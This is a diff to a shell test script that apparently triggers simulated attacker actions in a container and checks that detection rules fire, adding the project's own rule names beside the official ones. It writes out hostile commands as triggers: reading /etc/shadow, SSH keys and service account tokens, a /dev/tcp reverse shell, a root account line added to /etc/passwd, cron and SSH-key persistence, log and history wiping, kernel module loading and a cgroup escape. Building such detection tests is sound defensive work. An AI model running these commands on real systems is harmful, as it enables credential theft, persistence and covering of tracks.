@@ -10,14 +10,17 @@ out=203.0.113.7
 credentials() {
 	action read-shadow && {
 		want cat 'Read sensitive file untrusted' /etc/shadow
+		ours cat 'Password file read' /etc/shadow
 		cat /etc/shadow
 	}
 	action read-shadow-python python3 && {
 		want python3 'Read sensitive file untrusted'
+		ours python3 'Password file read'
 		python3 -S -c 'open("/etc/shadow").read()'
 	}
 	action read-sudoers-openat2 && {
 		want intruder 'Read sensitive file untrusted' openat2
+		ours intruder 'Password file read' openat2
 		intruder openat2 /etc/sudoers
 	}
 	action read-pam-open && {
@@ -34,6 +37,7 @@ credentials() {
 	}
 	action read-ssh-key && {
 		want head 'Read ssh information' id_ed25519
+		ours head 'Private key read' id_ed25519
 		head -c 20 /root/.ssh/id_ed25519
 	}
 	action list-ssh-folder && {
@@ -62,6 +66,7 @@ credentials() {
 	}
 	action symlink-shadow && {
 		want ln 'Create Symlink Over Sensitive Files' /etc/shadow
+		ours ln 'Secret file linked elsewhere'
 		ln -s /etc/shadow /tmp/notes
 	}
 	action symlink-etc-old-call && {
@@ -70,10 +75,12 @@ credentials() {
 	}
 	action hardlink-shadow && {
 		want ln 'Create Hardlink Over Sensitive Files' /etc/shadow
+		ours ln 'Secret file linked elsewhere'
 		ln /etc/shadow /tmp/hard
 	}
 	action hardlink-sudoers-old-call && {
 		want intruder 'Create Hardlink Over Sensitive Files' link
+		ours intruder 'Secret file linked elsewhere'
 		intruder link /etc/sudoers /tmp/hard-too
 	}
 }
@@ -81,6 +88,7 @@ credentials() {
 execution() {
 	action web-server-shell && {
 		want sh 'Run shell untrusted' 'sh -c id'
+		ours sh 'Shell started by a server' 'sh -c id'
 		nginx spawn sh -c id
 	}
 	action database-program && {
@@ -93,28 +101,34 @@ execution() {
 	}
 	action package-manager apt-get && {
 		want apt-get 'Launch Package Management Process in Container'
+		ours apt-get 'Package tool in a container'
 		apt-get --version
 	}
 	action package-list dpkg && {
 		want dpkg 'Launch Package Management Process in Container'
+		ours dpkg 'Package tool in a container'
 		dpkg -l
 	}
 	action drop-and-execute && {
 		cp /usr/bin/id /tmp/dropped
 		want dropped 'Drop and execute new binary in container'
+		ours dropped 'Program that its image does not have'
 		/tmp/dropped
 	}
 	action shared-memory-execute && {
 		cp /usr/bin/id /dev/shm/x
 		want x 'Execution from /dev/shm' /dev/shm/x
+		ours x 'Program from shared memory' /dev/shm/x
 		/dev/shm/x
 	}
 	action memory-execute && {
 		want '*' 'Fileless execution via memfd_create' 'payload nothing'
+		ours '*' 'Program from memory' 'payload nothing'
 		intruder memory-exec
 	}
 	action memory-execute-at && {
 		want '*' 'Fileless execution via memfd_create' 'payload nothing'
+		ours '*' 'Program from memory' 'payload nothing'
 		intruder memory-execat
 	}
 	action glibc-tunables && {
@@ -123,10 +137,12 @@ execution() {
 	}
 	action ptrace-attach && {
 		want intruder 'PTRACE attached to process' attach
+		ours intruder 'Another process traced' attach
 		intruder attach
 	}
 	action ptrace-seize && {
 		want intruder 'PTRACE attached to process' seize
+		ours intruder 'Another process traced' seize
 		intruder seize
 	}
 	action anti-debug && {
@@ -153,12 +169,18 @@ privileges() {
 		want intruder 'Set Setuid or Setgid bit' 'chmod 4755'
 		intruder chmod 4755 /data/helper
 	}
+	action run-setuid-program && {
+		want helper 'Drop and execute new binary in container'
+		ours helper 'Unknown set-user-ID program'
+		intruder spawn-as 33 /data/helper
+	}
 	action become-root && {
 		want intruder 'Non sudo setuid' 'become 0'
 		intruder spawn-as 33 intruder become 0
 	}
 	action unshare-user unshare && {
 		want unshare 'Change namespace privileges via unshare'
+		ours unshare 'Namespace entered from a container'
 		unshare -U true
 	}
 	action unshare-mount unshare && {
@@ -167,10 +189,12 @@ privileges() {
 	}
 	action enter-namespace nsenter && {
 		want nsenter 'Change thread namespace'
+		ours nsenter 'Namespace entered from a container'
 		nsenter -t 1 -n true
 	}
 	action enter-namespace-call && {
 		want intruder 'Change thread namespace' /proc/1/ns/ipc
+		ours intruder 'Namespace entered from a container'
 		intruder namespace /proc/1/ns/ipc
 	}
 }
@@ -178,14 +202,17 @@ privileges() {
 network() {
 	action packet-socket && {
 		want intruder 'Packet socket created in container'
+		ours intruder 'Packet socket in a container'
 		intruder packet
 	}
 	action api-server curl && {
 		want curl 'Contact K8S API Server From Container'
+		ours curl 'Kubernetes API asked by a tool'
 		curl -s -m 2 https://10.96.0.1/api
 	}
 	action metadata-service curl && {
 		want curl 'Contact EC2 Instance Metadata Service From Container'
+		ours curl 'Cloud metadata asked'
 		curl -s -m 2 http://169.254.169.254/latest/meta-data/
 	}
 	action netcat-shell nc && {
@@ -203,10 +230,13 @@ network() {
 	action reverse-shell && {
 		want bash 'System procs network activity' /dev/tcp
 		want bash 'Redirect STDOUT/STDIN to Network Connection in Container' /dev/tcp
+		ours bash 'Shell on the network' /dev/tcp
+		ours bash 'Standard streams on a connection' /dev/tcp
 		bash -c "exec 4<>/dev/tcp/$out/4444 0<&4 1>&4"
 	}
 	action streams-to-socket && {
 		want intruder 'Redirect STDOUT/STDIN to Network Connection in Container' streams
+		ours intruder 'Standard streams on a connection'
 		intruder streams $out 4444
 	}
 	action ssh-odd-port ssh && {
@@ -234,6 +264,7 @@ network() {
 		HTTP_PROXY=http://$out:80/ curl -s -m 2 http://127.0.0.1:1/
 	}
 	action miner-pool && {
+		ours intruder 'Mining pool contacted'
 		intruder connect $out 3333
 	}
 }
@@ -245,6 +276,7 @@ persistence() {
 	}
 	action cron-file && {
 		want tee 'Schedule Cron Jobs' /etc/cron.d
+		ours tee 'Scheduled to run later'
 		echo '* * * * * root true' | tee /etc/cron.d/update
 	}
 	action crontab crontab && {
@@ -253,6 +285,7 @@ persistence() {
 	}
 	action authorized-keys && {
 		want tee 'Adding ssh keys to authorized_keys'
+		ours tee 'Login key added'
 		echo key | tee -a /root/.ssh/authorized_keys
 	}
 	action file-below-dev && {
@@ -260,23 +293,31 @@ persistence() {
 		touch /dev/.hidden
 	}
 	action below-etc && {
+		ours cp 'Configuration written in a container'
 		cp /etc/hosts /etc/hosts.allow
 	}
 	action binary-folder && {
+		ours cp 'Program folder written in a container'
 		cp /usr/bin/id /usr/bin/ls2
 	}
 	action new-user useradd && {
 		useradd -M mallory
+	}
+	action account-line && {
+		ours tee 'Account file changed' /etc/passwd
+		echo 'eve::0:0::/:/bin/sh' | tee -a /etc/passwd
 	}
 }
 
 traces() {
 	action clear-log && {
 		want bash 'Clear Log Activities'
+		ours bash 'Log emptied'
 		: >/var/log/auth.log
 	}
 	action truncate-log && {
 		want intruder 'Clear Log Activities' truncate
+		ours intruder 'Log emptied'
 		intruder truncate /var/log/syslog
 	}
 	action shred shred && {
@@ -285,24 +326,29 @@ traces() {
 	}
 	action delete-history && {
 		want rm 'Delete or rename shell history'
+		ours rm 'Shell history removed'
 		rm /root/.bash_history
 	}
 	action rename-history && {
 		want mv 'Delete or rename shell history'
+		ours mv 'Shell history removed'
 		mv /home/app/.bash_history /tmp/h
 	}
 	action truncate-history && {
 		want bash 'Delete or rename shell history'
+		ours bash 'Shell history removed'
 		: >/root/.ash_history
 	}
 	action unlink-history-old-call && {
 		want intruder 'Delete or rename shell history' unlink
+		ours intruder 'Shell history removed'
 		intruder unlink /root/.ash_history
 	}
 }
 
 others() { # what our own rules see and the official ones do not
 	action token cat && {
+		ours cat 'Service account token read'
 		cat /var/run/secrets/kubernetes.io/serviceaccount/token
 	}
 	action uring-open && {
@@ -322,6 +368,7 @@ others() { # what our own rules see and the official ones do not
 privileged() {
 	action mount && {
 		want mount 'Mount Launched in Privileged Container'
+		ours mount 'File system mounted in a container'
 		mount -t tmpfs none /srv
 	}
 	action debugfs debugfs && {
@@ -330,26 +377,32 @@ privileged() {
 	}
 	action module insmod && {
 		want insmod 'Linux Kernel Module Injection Detected'
+		ours insmod 'Kernel module loaded'
 		insmod /opt/app/evil.ko
 	}
 	action module-old-call && {
 		want intruder 'Linux Kernel Module Injection Detected' module-init
+		ours intruder 'Kernel module loaded'
 		intruder module-init
 	}
 	action release-agent && {
 		mkdir -p /tmp/cgrp
 		want bash 'Detect release_agent File Container Escapes'
+		ours bash 'Way out to the host written'
 		echo /bin/true >/tmp/cgrp/release_agent
 	}
 	action load-bpf && {
 		want intruder 'BPF Program Not Profiled'
+		ours intruder 'BPF program loaded'
 		intruder bpf-load
 	}
 	action host-namespace nsenter && {
 		want nsenter 'Change thread namespace'
+		ours nsenter 'Namespace entered from a container'
 		nsenter -t 1 -m true
 	}
 	action disk mknod && {
+		ours mknod 'Device node made in a container'
 		mknod /tmp/disk b 253 0
 	}
 }
@@ -357,15 +410,18 @@ privileged() {
 docker() {
 	action read-shadow && {
 		want cat 'Read sensitive file untrusted'
+		ours cat 'Password file read' /etc/shadow
 		cat /etc/shadow
 	}
 	action drop-and-execute && {
 		cp /usr/bin/true /tmp/dropped
 		want dropped 'Drop and execute new binary in container'
+		ours dropped 'Program that its image does not have'
 		/tmp/dropped
 	}
 	action delete-history && {
 		want rm 'Delete or rename shell history'
+		ours rm 'Shell history removed'
 		rm -f /root/.bash_history
 	}
 }
